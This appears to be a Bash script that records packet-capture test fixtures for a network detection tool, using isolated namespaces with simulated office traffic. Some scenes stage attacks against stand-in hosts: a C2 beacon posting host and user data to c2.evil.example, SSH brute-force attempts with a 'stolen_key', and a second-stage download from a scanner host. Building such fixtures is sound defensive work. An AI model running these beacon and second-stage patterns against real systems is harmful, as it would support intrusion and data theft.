#!/usr/bin/env bash
# Records the captures of this folder again: real programs talk to each other in network namespaces that this script makes
# and removes; nothing leaves the machine. Needs root. README.md says who is who and what each capture shows.
#
#   record.sh                 all captures
#   record.sh demo quic       only these
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
prefix=weir-rec
work=$(mktemp -d)
venv=${WEIR_RECORD_VENV:-$here/../../target/record-venv}
packages=(bind9-dnsutils curl dnsmasq-base ethtool iperf3 iproute2 iputils-ping nginx-light openssh-client openssh-server
    openssl procps python3-venv tcpdump unbound)
captures=(demo browsing dns tls quic bulk)

main() {
    ((EUID == 0)) || { echo "record.sh: needs root (network namespaces)" >&2; exit 1; }
    install_programs
    trap clean_up EXIT
    make_network
    make_certificates
    start_servers
    (($# > 0)) || set -- "${captures[@]}"
    local capture
    for capture; do
        record "$capture"
    done
}

# ---------------------------------------------------------------- the machine

install_programs() {
    local missing=()
    local package
    for package in "${packages[@]}"; do
        dpkg -s "$package" >/dev/null 2>&1 || missing+=("$package")
    done
    if ((${#missing[@]} > 0)); then
        # Their services are not wanted, only the programs.
        local policy=/usr/sbin/policy-rc.d
        [[ -e $policy ]] || { printf '#!/bin/sh\nexit 101\n' >"$policy"; chmod +x "$policy"; trap 'rm -f '"$policy" EXIT; }
        apt-get -qq update
        DEBIAN_FRONTEND=noninteractive apt-get -qq install -y --no-install-recommends "${missing[@]}" >/dev/null
        rm -f "$policy"
    fi
    if [[ ! -x $venv/bin/python ]]; then
        /usr/bin/python3 -m venv "$venv"
        "$venv/bin/pip" -q install 'aioquic==1.*' 'aiosmtpd==1.*'
    fi
}

clean_up() {
    local namespace
    for namespace in $(ip netns list | awk '{ print $1 }' | grep "^$prefix-" || true); do
        # Only what runs in the namespaces of this script.
        ip netns pids "$namespace" | xargs -r kill 2>/dev/null || true
    done
    sleep 0.3
    for namespace in $(ip netns list | awk '{ print $1 }' | grep "^$prefix-" || true); do
        ip netns pids "$namespace" | xargs -r kill -9 2>/dev/null || true
        ip netns del "$namespace"
        rm -rf "/etc/netns/$namespace"
    done
    rmdir /etc/netns 2>/dev/null || true
    rm -rf "$work"
}

# on HOST command ...
on() {
    local namespace=$1
    shift
    ip netns exec "$prefix-$namespace" "$@"
}

# ---------------------------------------------------------------- the network

# One switch, whose mirror port is captured. Offloading is off, so that frames are as they would be on a wire.
make_network() {
    mkdir -p /etc/netns
    ip netns add "$prefix-switch"
    on switch sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    on switch ip link add br0 type bridge mcast_snooping 0
    on switch ip link set br0 up

    host alice 10.20.0.11/24 2001:db8:20::11/64
    host bob 10.20.0.12/24 2001:db8:20::12/64
    host carol 10.20.0.13/24 2001:db8:20::13/64
    host shell 10.20.0.22/24 2001:db8:20::22/64         # offers ssh to the world
    host resolver 10.20.0.53/24 2001:db8:20::53/64

    host names 192.0.2.53/24 2001:db8:53::53/64         # authoritative for everything
    host web 192.0.2.10/24 2001:db8:80::10/64           # many good names behind one address
    host mail 192.0.2.25/24 2001:db8:80::25/64
    host c2 198.51.100.66/24 2001:db8:bad::66/64        # *.evil.example
    host drop 203.0.113.99/24 2001:db8:bad::99/64       # bad, has no name
    host scanner 203.0.113.7/24 2001:db8:bad::7/64      # bad, knocks from outside
}

# host NAME ADDRESS/LENGTH ADDRESS6/LENGTH: a namespace on the switch to which everything is on-link.
host() {
    local name=$1
    local namespace=$prefix-$name
    ip netns add "$namespace"
    mkdir -p "/etc/netns/$namespace"
    echo "nameserver 10.20.0.53" >"/etc/netns/$namespace/resolv.conf"
    on "$name" sysctl -qw net.ipv6.conf.default.accept_dad=0 net.ipv6.conf.default.router_solicitations=0 \
        net.ipv6.conf.all.accept_dad=0 net.ipv4.ping_group_range="0 2147483647"
    ip link add eth0 netns "$namespace" type veth peer name "to-$name" netns "$prefix-switch"
    on "$name" ethtool -K eth0 tx off rx off tso off gso off gro off >/dev/null 2>&1
    on switch ethtool -K "to-$name" tx off rx off tso off gso off gro off >/dev/null 2>&1
    on switch ip link set "to-$name" master br0 up
    on "$name" ip link set lo up
    on "$name" ip link set eth0 up
    on "$name" ip address add "$2" dev eth0
    on "$name" ip address add "$3" dev eth0 nodad
    on "$name" ip route add default dev eth0
    on "$name" ip -6 route add default dev eth0
}

# ---------------------------------------------------------------- the servers

make_certificates() {
    mkdir -p "$work/tls"
    local name
    for name in cdn.example c2.evil.example mail.example; do
        openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 3650 -subj "/O=Weir test/CN=$name" \
            -addext "subjectAltName=DNS:$name,DNS:*.$name,DNS:${name#*.}" \
            -keyout "$work/tls/$name.key" -out "$work/tls/$name.pem" 2>/dev/null
    done
}

start_servers() {
    start_names
    start_resolver
    start_nginx web cdn.example
    start_nginx c2 c2.evil.example
    start_nginx drop c2.evil.example
    start_nginx scanner c2.evil.example
    on c2 "$venv/bin/python" "$here/programs/quic.py" server "$work/tls/c2.evil.example" >"$work/quic-c2.log" 2>&1 &
    on web "$venv/bin/python" "$here/programs/quic.py" server "$work/tls/cdn.example" >"$work/quic-web.log" 2>&1 &
    on mail "$venv/bin/python" "$here/programs/smtp.py" "$work/tls/mail.example" >"$work/smtp.log" 2>&1 &
    on web iperf3 -s >"$work/iperf.log" 2>&1 &
    start_ssh
    wait_for alice 10.20.0.53 53
    wait_for alice 192.0.2.10 443
    wait_for alice 192.0.2.25 25
    wait_for alice 198.51.100.66 443
    wait_for alice 203.0.113.99 80
    wait_for alice 10.20.0.22 22
}

wait_for() {
    local tries
    for tries in {1..50}; do
        on "$1" bash -c "exec 3<>/dev/tcp/$2/$3" 2>/dev/null && return
        sleep 0.1
    done
    echo "record.sh: nothing listens on $2 port $3 after $tries tries" >&2
    cat "$work"/*.log >&2
    return 1
}

start_names() {
    on names dnsmasq --keep-in-foreground --no-resolv --no-hosts --conf-file=/dev/null --pid-file= --user=root \
        --local-ttl=300 --local=/example/ --local=/example.org/ --local=/in-addr.arpa/ \
        --host-record=cdn.example,192.0.2.10,2001:db8:80::10 \
        --host-record=www.example.org,192.0.2.10 --host-record=update.example.org,192.0.2.10 \
        --host-record=speed.example.org,192.0.2.10 --host-record=mail.example,192.0.2.25 \
        --cname=shop.example,cdn.example --cname=img.shop.example,shop.example \
        --mx-host=example.org,mail.example,10 --txt-record=example.org,"v=spf1 mx -all" \
        --host-record=c2.evil.example,198.51.100.66 --host-record=login.evil.example,198.51.100.66 \
        --host-record=sync.evil.example,198.51.100.66,2001:db8:bad::66 \
        --host-record=harmless.example,198.51.100.200 --cname=track.example,c2.evil.example \
        --dns-rr=cdn.example,65,000100000100060268330268320004 \
        --local=/gone.example/ >"$work/names.log" 2>&1 &
}

start_resolver() {
    cat >"$work/unbound.conf" <<END
server:
    interface: 0.0.0.0
    access-control: 0.0.0.0/0 allow
    chroot: ""
    username: ""
    directory: "$work"
    pidfile: "$work/unbound.pid"
    use-syslog: no
    do-daemonize: no
    module-config: "respip iterator"
    ede: yes
    num-threads: 1
    do-ip6: no
rpz:
    name: policy.example
    zonefile: $work/policy.zone
forward-zone:
    name: "."
    forward-addr: 192.0.2.53
remote-control:
    control-enable: no
END
    cat >"$work/policy.zone" <<'END'
$ORIGIN policy.example.
$TTL 300
@ SOA localhost. root.localhost. 1 3600 600 86400 300
@ NS localhost.
walled.example A 0.0.0.0
refused.example CNAME .
END
    on resolver unbound -c "$work/unbound.conf" >"$work/unbound.log" 2>&1 &
}

start_nginx() {
    local host=$1 certificate=$2
    local root=$work/nginx-$host
    mkdir -p "$root/html/img" "$root/tmp"
    echo "<html><body><h1>$host</h1></body></html>" >"$root/html/index.html"
    head -c 6000 /dev/zero | tr '\0' 'w' >"$root/html/img/logo.svg"
    cat >"$root/nginx.conf" <<END
daemon off;
worker_processes 1;
user root;
pid $root/pid;
error_log $root/error.log;
events { worker_connections 64; }
http {
    access_log off;
    client_body_temp_path $root/tmp; proxy_temp_path $root/tmp; fastcgi_temp_path $root/tmp;
    uwsgi_temp_path $root/tmp; scgi_temp_path $root/tmp;
    default_type text/html;
    server {
        listen 80; listen [::]:80; listen 443 ssl http2; listen [::]:443 ssl http2;
        ssl_certificate $work/tls/$certificate.pem;
        ssl_certificate_key $work/tls/$certificate.key;
        ssl_protocols TLSv1.2 TLSv1.3;
        root $root/html;
        location = /gate.php { return 200 "ok\n"; }
        location = /beacon { return 200 "task none\n"; }
    }
}
END
    on "$host" nginx -e "$root/error.log" -p "$root" -c "$root/nginx.conf" >"$work/nginx-$host.log" 2>&1 &
}

start_ssh() {
    mkdir -p /run/sshd
    ssh-keygen -q -t ed25519 -N '' -f "$work/host_key"
    ssh-keygen -q -t ed25519 -N '' -f "$work/stolen_key"
    on shell "$(command -v sshd)" -D -e -f /dev/null -h "$work/host_key" -o UsePAM=no -o PidFile=none \
        -o PasswordAuthentication=no -o MaxStartups=50 >"$work/sshd.log" 2>&1 &
}

# ---------------------------------------------------------------- recording

# What a mirror port at a border sees: no ARP, no neighbour discovery, no multicast.
readonly filter='not arp and not multicast and not (icmp6 and ip6[40] >= 133 and ip6[40] <= 137)'

record() {
    local name=$1
    local snaplen=0
    [[ $name == bulk ]] && snaplen=96
    echo "recording $name" >&2
    # Not by `on`: the process identifier wanted is tcpdump's, which `ip netns exec` becomes.
    ip netns exec "$prefix-switch" tcpdump -i br0 -n -U --immediate-mode -B 8192 -s "$snaplen" -Z root \
        -w "$work/$name.pcap" "$filter" 2>"$work/tcpdump.log" &
    local tcpdump=$!
    until grep -q 'listening on' "$work/tcpdump.log"; do sleep 0.05; done
    "scene_$name"
    sleep 0.5
    kill "$tcpdump"
    wait "$tcpdump" || true
    grep -q '^0 packets dropped by kernel' "$work/tcpdump.log" || { cat "$work/tcpdump.log" >&2; exit 1; }
    mv "$work/$name.pcap" "$here/$name.pcap"
}

fetch() {
    local who=$1
    shift
    on "$who" curl --silent --insecure --max-time 5 "$@" >/dev/null || true
}

quic() {
    local who=$1
    shift
    on "$who" "$venv/bin/python" "$here/programs/quic.py" client "$@"
}

# An ordinary minute of an office, with six bad things in it.
scene_demo() {
    fetch alice https://www.example.org/ https://www.example.org/img/logo.svg
    fetch bob https://cdn.example/ http://cdn.example/img/logo.svg
    on carol ping -q -c 3 -i 0.2 192.0.2.10 >/dev/null
    # Someone outside tries the ssh server, and again, and again.
    local user
    for user in root admin oracle test backup; do
        on scanner ssh -i "$work/stolen_key" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
            -o IdentitiesOnly=yes "$user@10.20.0.22" true 2>/dev/null || true
    done
    # Alice's machine has an implant: it asks for its master's name and reports in.
    fetch alice --data "host=alice&user=alice&run=1" https://c2.evil.example/beacon
    fetch carol https://shop.example/ https://img.shop.example/img/logo.svg
    # Bob's mail program resolves a link; nobody clicks it.
    on bob dig +short login.evil.example >/dev/null
    # Bob's machine reports to a bare address.
    fetch bob --user-agent 'Mozilla/4.0' --data "id=42" http://203.0.113.99/gate.php
    fetch bob http://203.0.113.99/
    # Carol's machine synchronises with the same master over QUIC.
    quic carol --ipv4 sync.evil.example /sync
    # What was tried from outside has worked: the ssh server fetches its next stage from there.
    fetch shell http://203.0.113.7/img/logo.svg
    # Alice pings into a network of ill repute; nobody is at home.
    on alice ip neighbour add 198.51.100.200 lladdr 02:00:00:00:00:c8 dev eth0 nud permanent
    on alice ping -q -c 3 -i 0.2 -W 1 198.51.100.200 >/dev/null || true
    fetch alice --tls-max 1.2 https://update.example.org/
    quic alice cdn.example /
}

# Nothing bad at all: HTTP/1, TLS 1.2 and 1.3, IPv6, several names behind one address, a proxy-less office.
scene_browsing() {
    fetch alice https://www.example.org/ https://www.example.org/img/logo.svg
    fetch alice http://www.example.org/ http://cdn.example/img/logo.svg
    fetch bob --ipv4 https://shop.example/ https://img.shop.example/img/logo.svg
    fetch bob --ipv6 https://cdn.example/
    fetch bob --ipv6 http://cdn.example/index.html
    fetch carol --tls-max 1.2 https://update.example.org/
    fetch carol --tls-max 1.2 --tlsv1.2 --http1.1 https://shop.example/img/logo.svg
    fetch carol http://cdn.example/nothing-here
    on alice ping -q -c 2 -i 0.2 cdn.example >/dev/null
    on bob ping -6 -q -c 2 -i 0.2 cdn.example >/dev/null
}

scene_dns() {
    local arguments
    while read -r arguments; do
        # shellcheck disable=SC2086
        on alice dig +tries=1 +time=2 $arguments >/dev/null || true
    done <<'END'
cdn.example A
cdn.example AAAA
cdn.example HTTPS
img.shop.example A
CDN.eXaMpLe A
track.example A
harmless.example A
nosuch.example A
walled.example A
refused.example A
example.org MX
example.org TXT
-x 192.0.2.10
+tcp www.example.org A
+noedns www.example.org A
+dnssec +subnet=10.20.0.0/24 www.example.org A
+norecurse www.example.org A
www.somewhere-else.net A
END
    on bob dig +short c2.evil.example >/dev/null
    # A machine outside whose resolver is not ours, and one inside that asks past the resolver.
    on carol dig +tries=1 +time=2 @192.0.2.53 login.evil.example A >/dev/null
}

scene_tls() {
    local client=(on alice openssl s_client -quiet -no_ign_eof)
    fetch alice --tls-max 1.2 --resolve c2.evil.example:443:198.51.100.66 https://c2.evil.example/beacon
    fetch alice --tlsv1.3 --resolve c2.evil.example:443:198.51.100.66 https://c2.evil.example/beacon
    # No server name at all.
    fetch bob https://198.51.100.66/beacon
    fetch bob --tls-max 1.2 https://198.51.100.66/beacon
    # A ClientHello that needs two segments: its list of protocols is long.
    local protocols
    protocols=h2,$(seq -s, -f 'protocol-number-%04.0f' 1 120)
    "${client[@]}" -connect 192.0.2.10:443 -servername big.example -alpn "$protocols" </dev/null >/dev/null 2>&1 || true
    # STARTTLS, and mail in clear.
    "${client[@]}" -connect 192.0.2.25:25 -servername mail.example -starttls smtp -tls1_2 <<<'QUIT' >/dev/null 2>&1 || true
    on bob curl --silent --insecure --ssl-reqd --mail-from bob@example.org --mail-rcpt carol@example.org \
        --upload-file - smtp://mail.example/bob.example <<<$'Subject: hello\n\nhello' || true
    on bob curl --silent --mail-from bob@example.org --mail-rcpt carol@example.org \
        --upload-file - smtp://mail.example/bob.example <<<$'Subject: hello\n\nhello' || true
    # A port that nobody listens on.
    fetch carol https://198.51.100.66:8443/
}

scene_quic() {
    quic alice cdn.example /
    quic bob --version 2 cdn.example /
    quic carol --padding 1500 cdn.example /
    quic alice --ipv4 sync.evil.example /sync
}

# Many packets of one flow, each cut to 96 bytes.
scene_bulk() {
    on alice timeout 10 iperf3 -c 192.0.2.10 -n 500K >/dev/null
    on alice timeout 10 iperf3 -c 192.0.2.10 -u -b 2M -t 1 -R >/dev/null
}

main "$@"
